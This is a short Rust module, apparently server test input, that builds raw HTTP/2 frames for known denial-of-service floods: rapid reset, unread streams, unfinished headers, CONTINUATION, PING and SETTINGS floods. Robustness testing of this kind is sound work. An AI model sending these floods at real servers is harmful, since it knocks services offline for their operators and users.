//! HTTP/2 by the byte (RFC 9113): what no client would send.

/// The end of the headers, and of the stream.
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
/// How many streams or frames one piece of a flood has.
const MANY: u32 = 200;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The preface, and settings in which each answer may have so many bytes.
pub fn start(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let [a, b, c, d] = window.to_be_bytes();
    bytes.extend(frame(4, 0, 0, &[0, 4, a, b, c, d]));
    bytes
}

/// GET, http, the path and the authority as literals without an index (RFC 7541, section 6.2.2).
fn headers(stream: u32, flags: u8) -> Vec<u8> {
    let path = b"/api/v1/regions";
    let mut block = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend(path);
    block.extend([0x01, 1, b'a']);
    frame(1, flags, stream, &block)
}

/// Requests, each taken back at once.
pub fn rapid_resets() -> Vec<u8> {
    let one = |n| {
        let stream = 2 * n + 1;
        [headers(stream, END_HEADERS | END_STREAM), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    };
    (0..MANY).flat_map(one).collect()
}

/// Requests whose answers are never taken.
pub fn many_streams() -> Vec<u8> {
    (0..MANY).flat_map(|n| headers(2 * n + 1, END_HEADERS | END_STREAM)).collect()
}

/// A request whose headers don't end.
pub fn headers_begun() -> Vec<u8> {
    [start(65_535), headers(1, END_STREAM)].concat()
}

pub fn continuations() -> Vec<u8> {
    frame(9, 0, 1, &[]).repeat(MANY as usize)
}

/// Each wants an answer.
pub fn pings() -> Vec<u8> {
    frame(6, 0, 0, &[7; 8]).repeat(MANY as usize)
}

pub fn settings() -> Vec<u8> {
    frame(4, 0, 0, &[]).repeat(MANY as usize)
}
